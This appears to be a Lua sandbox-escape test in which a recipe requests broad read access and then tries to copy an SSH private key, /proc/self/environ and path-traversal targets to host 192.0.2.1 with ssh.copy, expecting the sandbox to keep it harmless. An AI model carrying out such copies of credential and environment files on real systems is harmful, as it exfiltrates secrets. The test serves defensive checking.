-- It needs folders far above, absolute ones, and such with dots and links, and reads files there.
-- expect: harmless
local ok, message = pcall(recipe, { name = "x", version = "1", summary = "s", needs = { read = { "/", "..", "../..", "~", "/etc", "./../../etc" } }, run = function() end })
for _, path in ipairs{ "/etc/hostname", "/proc/self/environ", "../error", "~/.ssh/id_ed25519", "./needs-read-of-everything.lua/../../error", "/dev/zero" } do
    local done, reply = pcall(ssh.copy, { host = "192.0.2.1", from = path, to = "/x" })
    if type(reply) == "string" and reply:find("root:") then print("ESCAPED") end
end
print("harmless")
